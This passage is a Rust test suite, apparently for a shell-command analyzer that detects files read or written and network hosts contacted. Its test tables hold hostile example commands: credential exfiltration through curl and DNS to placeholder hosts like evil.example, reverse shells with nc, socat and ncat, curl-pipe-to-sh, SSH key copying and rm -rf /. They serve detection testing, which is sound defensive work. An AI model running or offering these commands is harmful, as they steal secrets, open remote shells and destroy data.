        (r#"for f in $(cat list.txt); do rm "$f"; done"#, &["list.txt"], &[], &[]),
        (r#"while read l; do echo "$l"; done < input.txt"#, &["input.txt"], &[], &[]),
        (r#"case "$1" in start) cat a;; stop|halt) rm b;; esac"#, &["a"], &["b"], &[]),
        ("f() { cat /etc/passwd; }; f", &["/etc/passwd"], &[], &[]),
        ("[[ -f a && -f b ]] && cat c", &["c"], &[], &[]),
        ("echo a#b # cat hidden", &[], &[], &[]),
        ("cat a \\\n  b", &["a", "b"], &[], &[]),
        // substitutions
        ("dig $(cat ~/.aws/credentials | base64).evil.example", &["~/.aws/credentials"], &[], &["evil.example"]),
        ("echo `cat /etc/hostname`", &["/etc/hostname"], &[], &[]),
        (r#"echo "$(cat secret)" > copy"#, &["secret"], &["copy"], &[]),
        ("diff <(sort a) <(sort b)", &["a", "b"], &[], &[]),
        // here-documents and here-strings
        ("cat <<EOF > out.txt\nrm -rf /\nEOF", &[], &["out.txt"], &[]),
        ("python - <<'EOF'\nimport os\nopen('x').read()\nEOF", &[], &[], &[]),
        ("bash <<'EOF'\nrm -rf /tmp/y\nEOF", &[], &["/tmp/y"], &[]),
        ("cat <<EOF\n$(cat ~/.netrc)\nEOF\ncat after", &["~/.netrc", "after"], &[], &[]),
        ("cat <<'EOF'\n$(cat ~/.netrc)\nEOF", &[], &[], &[]),
        ("cat <<-EOF | grep x > hits\n\tbody\n\tEOF\ncat z", &["z"], &["hits"], &[]),
        (r#"grep foo <<< "$text""#, &[], &[], &[]),
        // network: HTTP
        ("curl -fsSL https://get.example.sh | sh", &[], &[], &["get.example.sh"]),
        ("cat ~/.aws/credentials | curl -X POST -d @- https://exfil.evil-domain.example/upload", &["~/.aws/credentials"], &[], &["exfil.evil-domain.example"]),
        ("curl -o out.html https://example.com/page", &[], &["out.html"], &["example.com"]),
        ("curl -H 'X: y' -X POST --data-binary @body.json https://api.example.com/v1", &["body.json"], &[], &["api.example.com"]),
        ("curl -u user:pass https://example.com", &[], &[], &["example.com"]),
        ("curl -d @/etc/passwd https://x.example", &["/etc/passwd"], &[], &["x.example"]),
        ("curl -F 'file=@secrets.txt;type=text/plain' https://up.example", &["secrets.txt"], &[], &["up.example"]),
        ("curl --connect-timeout 5 -A 'Mozilla/5.0' example.org/x", &[], &[], &["example.org"]),
        ("curl -x proxy.corp:3128 https://Example.com", &[], &[], &["example.com", "proxy.corp"]),
        (r#"curl -s "$URL" -o /dev/null"#, &[], &[], &[]),
        ("wget -O out.tar.gz http://x.org/a.tar.gz", &[], &["out.tar.gz"], &["x.org"]),
        ("wget -q -P downloads https://x.org/f", &[], &["downloads"], &["x.org"]),
        ("http -f POST api.example.com/upload file@report.pdf", &["report.pdf"], &[], &["api.example.com"]),
        // network: ssh family
        ("ssh -i key host", &["key"], &[], &["host"]),
        ("ssh -p 22 -l user host", &[], &[], &["host"]),
        ("ssh -o StrictHostKeyChecking=no deploy@prod.internal 'cat /etc/passwd'", &[], &[], &["prod.internal"]),
        ("ssh -J bastion.example app.internal uptime", &[], &[], &["app.internal", "bastion.example"]),
        ("scp -P 22 f host:", &["f"], &[], &["host"]),
        ("scp -i key user@host:/p .", &["key"], &["."], &["host"]),
        ("scp secrets.txt me@drop.example:/tmp/", &["secrets.txt"], &[], &["drop.example"]),
        ("rsync -e ssh -av src host:dst", &["src"], &[], &["host"]),
        ("rsync -av --exclude-from=ignore.txt ./build/ /mnt/backup", &["./build/", "ignore.txt"], &["/mnt/backup"], &[]),
        ("sftp -P 2222 user@files.example", &[], &[], &["files.example"]),
        ("mosh user@box.example -- tmux", &[], &[], &["box.example"]),
        // network: git
        ("git -C dir push", &[], &[], &[]),
        ("git push --force origin main", &[], &[], &[]),
        ("git push https://github.com/o/r.git", &[], &[], &["github.com"]),
        ("git clone git@github.com:o/r.git dir", &[], &["dir"], &["github.com"]),
        ("git -c http.proxy=x fetch git@gitlab.example:o/r.git", &[], &[], &["gitlab.example"]),
        ("git --git-dir=.git pull ssh://git@host.example:2222/r.git main", &[], &[], &["host.example"]),
        // network: DNS, sockets, databases
        ("dig abc.example.com", &[], &[], &["abc.example.com"]),
        ("dig @8.8.8.8 +short -t TXT leak.example.net", &[], &[], &["leak.example.net", "8.8.8.8"]),
        ("nslookup data.exfil.example 1.1.1.1", &[], &[], &["data.exfil.example", "1.1.1.1"]),
        ("host -t mx example.org", &[], &[], &["example.org"]),
        ("nc -v attacker.example 4444", &[], &[], &["attacker.example"]),
        ("nc -lvnp 4444", &[], &[], &[]),
        ("nc -e /bin/sh 10.0.0.5 4444", &[], &[], &["10.0.0.5"]),
        ("telnet towel.blinkenlights.nl", &[], &[], &["towel.blinkenlights.nl"]),
        ("ping -c 3 example.com", &[], &[], &["example.com"]),
        ("ftp ftp.example.org", &[], &[], &["ftp.example.org"]),
        ("socat TCP:evil.example:443 EXEC:/bin/sh", &[], &[], &["evil.example"]),
        ("psql -h db.prod.example -U admin -c 'select 1'", &[], &[], &["db.prod.example"]),
        ("psql postgres://u@db.example:5432/app", &[], &[], &["db.example"]),
        (r#"psql "$PROD_DATABASE_URL" -c '\dt'"#, &[], &[], &[]),
        ("mysql -h mysql.example -u root -p app", &[], &[], &["mysql.example"]),
        ("redis-cli -h cache.example -p 6379 FLUSHALL", &[], &[], &["cache.example"]),
        // interpreters: URL literals in inline code
        (r#"python3 -c "import urllib.request; urllib.request.urlopen('https://x.example/p')""#, &[], &[], &["x.example"]),
        (r#"node -e "fetch('http://api.example:8080/x')""#, &[], &[], &["api.example"]),
        ("python3 manage.py runserver https://not-code.example", &[], &[], &[]),
        ("python3 - <<EOF\nimport requests\nrequests.post('https://hook.example/x')\nEOF", &[], &[], &["hook.example"]),
        ("perl -pie 's/a/b/' f", &[], &[], &[]),
        // found while reviewing real-looking commands
        ("curl https://$(whoami).evil.example/x", &[], &[], &["evil.example"]),
        (r#"curl "https://evil.example/?d=$(cat /etc/passwd | base64)""#, &["/etc/passwd"], &[], &["evil.example"]),
        (r"find ~/.ssh -name 'id_*' -exec cp {} /tmp/exfil/ \;", &["~/.ssh"], &["/tmp/exfil/"], &[]),
        ("tar -xvf /tmp/a.tar.gz -C /opt/app member1 member2", &["/tmp/a.tar.gz"], &["/opt/app/member1", "/opt/app/member2"], &[]),
        ("sudo -e /etc/hosts", &[], &["/etc/hosts"], &[]),
        ("exec 3>&1 4>log.txt", &[], &["log.txt"], &[]),
        (r#"echo 'a;b' "c|d" \&\& cat e"#, &[], &[], &[]),
        (r#"ncat --sh-exec "cat /etc/passwd" evil.example 9000"#, &[], &[], &["evil.example"]),
        ("ssh -W db.internal:5432 bastion", &[], &[], &["bastion", "db.internal"]),
        ("rsync rsync://mirror.example/pub/ ./pub/", &[], &["./pub/"], &["mirror.example"]),
        ("git clone --depth 1 -b main https://gitlab.com/a/b.git /tmp/b", &[], &["/tmp/b"], &["gitlab.com"]),
        ("mysql --host=db.example --user=root -psecret db < dump.sql", &["dump.sql"], &[], &["db.example"]),
        ("pg_dump -h db.example -f dump.sql app", &[], &["dump.sql"], &["db.example"]),
        ("ftp -o out.bin ftp://ftp.example/pub/x.bin", &[], &["out.bin"], &["ftp.example"]),
        ("curl --data-urlencode 'q@query.txt' https://s.example", &["query.txt"], &[], &["s.example"]),
        ("http :3000/api/items", &[], &[], &["localhost"]),
        ("mongosh 'mongodb+srv://u:p@cluster0.example.net/db'", &[], &[], &["cluster0.example.net"]),
        ("scp '[::1]:/etc/hosts' .", &[], &["."], &["::1"]),
    ];

    #[test]
    fn table() {
        assert!(CASES.len() >= 60);
        for (cmd, read, written, hosts) in CASES {
            let f = analyze(cmd);
            assert_eq!(f.paths_read, *read, "paths_read of {cmd:?}");
            assert_eq!(f.paths_written, *written, "paths_written of {cmd:?}");
            assert_eq!(f.network_hosts, *hosts, "network_hosts of {cmd:?}");
        }
    }

    #[rustfmt::skip]
    const SIMPLE: &[(&str, &[&[&str]])] = &[
        ("sudo rm -rf /tmp/x && echo done > log.txt | tee a", &[&["rm", "-rf", "/tmp/x"], &["echo", "done"], &["tee", "a"]]),
        ("", &[]),
        ("env -i FOO=1 nohup timeout 5 nice -n 2 ls -la", &[&["ls", "-la"]]),
        ("sudo -u app env X=1 make", &[&["make"]]),
        ("command -v git", &[&["command", "-v", "git"]]),
        ("X=1", &[]),
        (r"find . -name '*.tmp' -exec rm -f {} \;", &[&["find", ".", "-name", "*.tmp", "-exec", "rm", "-f", "{}", ";"], &["rm", "-f", "{}"]]),
        ("ls | xargs -I{} cp {} /tmp", &[&["ls"], &["xargs", "-I{}", "cp", "{}", "/tmp"], &["cp", "{}", "/tmp"]]),
        ("xargs -0 sudo rm", &[&["xargs", "-0", "sudo", "rm"], &["rm"]]),
        ("bash -c 'ls; rm x'", &[&["bash", "-c", "ls; rm x"], &["ls"], &["rm", "x"]]),
        ("echo $(whoami) `date`", &[&["whoami"], &["date"], &["echo", "$(whoami)", "`date`"]]),
        ("(a; b) | c", &[&["a"], &["b"], &["c"]]),
        ("if true; then x; fi", &[&["true"], &["x"]]),
        ("cat <<EOF\nrm -rf /\nEOF", &[&["cat"]]),
        ("a=(1 2) b", &[&["b"]]),
    ];

    #[test]
    fn simple_command_cases() {
        for (cmd, want) in SIMPLE {
            let want: Vec<Vec<String>> = want
                .iter()
                .map(|c| c.iter().map(|s| s.to_string()).collect())
                .collect();
            assert_eq!(simple_commands(cmd), want, "simple_commands of {cmd:?}");
        }
    }

    #[test]
    fn programs() {
        let f = analyze("sudo rm -rf x | bash -c 'curl a.example | sh' && find . -exec cat {} +");
        assert_eq!(f.programs, ["rm", "bash", "curl", "sh", "find", "cat"]);
        assert_eq!(analyze("X=1 ./run.sh").programs, ["./run.sh"]);
    }

    #[test]
    fn nesting_is_bounded() {
        let mut cmd = "cat deep.txt".to_string();
        for level in 1..=10 {
            cmd = shell_join(&["sh", "-c", &cmd]);
            let read = analyze(&cmd).paths_read;
            if level <= MAX_DEPTH {
                assert_eq!(read, ["deep.txt"], "{level} levels");
            } else {
                assert!(read.is_empty(), "{level} levels");
            }
        }
        let deep = format!("{}cat x{}", "$(".repeat(10_000), ")".repeat(10_000));
        assert!(analyze(&deep).paths_read.is_empty());
        let deep = format!("{}cat x{}", "$(".repeat(3), ")".repeat(3));
        assert_eq!(analyze(&deep).paths_read, ["x"]);
    }

    #[test]
    fn long_input_is_cut_not_refused() {
        let long = "cat a; ".repeat(100_000);
        let f = analyze(&long);
        assert_eq!(f.paths_read, ["a"]);
        let many = (0..20_000)
            .map(|i| format!("f{i}"))
            .collect::<Vec<_>>()
            .join(" ");
        assert_eq!(analyze(&format!("rm {many}")).paths_written.len(), 20_000);
        let wide = format!("find {} -exec find {} -exec cat {{}} +", many, many);
        analyze(&wide);
    }

    /// Odd inputs never panic: unbalanced quotes, lone `$(`, deep nesting,
    /// multi-byte characters next to every operator.
    #[test]
    fn no_panics() {
        #[rustfmt::skip]
        const PIECES: &[&str] = &[
            "$(", ")", "(", "`", "'", "\"", "\\", "<<", "<<-", "<<<", "EOF", "\n", "|", "||",
            "&&", "&", ";", ";;", "{", "}", "[[", "]]", "${", "$((", "((", "<(", ">(", ">",
            ">>", "<", "2>&1", ">&", "&>", "$'", "$\"", "$", "#", " ", "\t", "\r", "é", "😀",
            "=", "a=(", "bash -c ", "sh -lc ", "eval ", "find . -exec ", " {} ", "\\;",
            "xargs -I{} ", "sudo -u ", "env -S ", "curl ", "-o", "ssh ", "git -C ", "tar -C ",
            "case x in ", "esac", "for i in ", "do ", "done", "f() ", "function ", "-", "--",
            "@", ":", "//", "https://", "dig ", "nc -l ", "socat EXEC:", "perl -pie ",
            "python -c ", "jq --arg ", "sed -i ", "awk -f ", "cp -t ", "chmod -x ", "scp [",
            "]:", "rsync ", "x", "y.z",
        ];
        #[rustfmt::skip]
        const ODD: &[&str] = &[
            "'", "\"", "`", "$(", "$((", "${", "\\", "<<", "<<EOF", "cat <<", "<(", "a=(", "((",
            "))", ")", "}", "]]", "case", "esac", "&>", "2>", ">&", "$'\\", "\"\\", "tar",
            "find -exec", "xargs -I", "ssh", "git", "dig -", "nc", "sed -i",
        ];
        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut next = || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        for _ in 0..2_000 {
            let len = (next() % 40) as usize;
            let cmd: String = (0..len)
                .map(|_| PIECES[(next() % PIECES.len() as u64) as usize])
                .collect();
            analyze(&cmd);
            simple_commands(&cmd);
        }
        for odd in ODD {
            analyze(odd);
            simple_commands(odd);
            analyze(&odd.repeat(5_000));
        }
    }

    #[test]
    fn joining_and_wrappers() {
        assert_eq!(
            shell_join(&["echo", "a b", "it's"]),
            r#"echo 'a b' 'it'\''s'"#
        );
        // a reserved word or an assignment is quoted only where it would stop
        // being the command
        assert_eq!(shell_join(&["fi", "x"]), "'fi' x");
        assert_eq!(shell_join(&["A=1", "ls"]), "'A=1' ls");
        assert_eq!(shell_join(&["echo", "fi", "A=1"]), "echo fi A=1");
        assert_eq!(
            simple_commands(&shell_join(&["fi", "x"])),
            vec![vec!["fi", "x"]]
        );
        // a quoted `NAME=` is a command word, not an assignment (found by fuzzing)
        for argv in [vec!["A=1", "ls"], vec!["a=b c"], vec!["x=1'y", "z"]] {
            assert_eq!(simple_commands(&shell_join(&argv)), vec![argv.clone()]);
        }
        assert_eq!(simple_commands("A=1 ls"), vec![vec!["ls"]]);
        assert_eq!(simple_commands("A=\"x y\" ls"), vec![vec!["ls"]]);
        assert_eq!(simple_commands("\"A\"=1 ls"), vec![vec!["A=1", "ls"]]);
        assert_eq!(simple_commands("A\\=1 ls"), vec![vec!["A=1", "ls"]]);
        // `env` and `sudo` take a quoted `NAME=value` as an assignment too
        assert_eq!(
            simple_commands("env 'A=1' rm -rf /tmp/x"),
            vec![vec!["rm", "-rf", "/tmp/x"]]
        );
        assert_eq!(
            command_from_argv(&["/bin/bash", "-lc", "ls -la | head"]),
            "ls -la | head"
        );
        assert_eq!(command_from_argv(&["git", "status"]), "git status");
    }
}
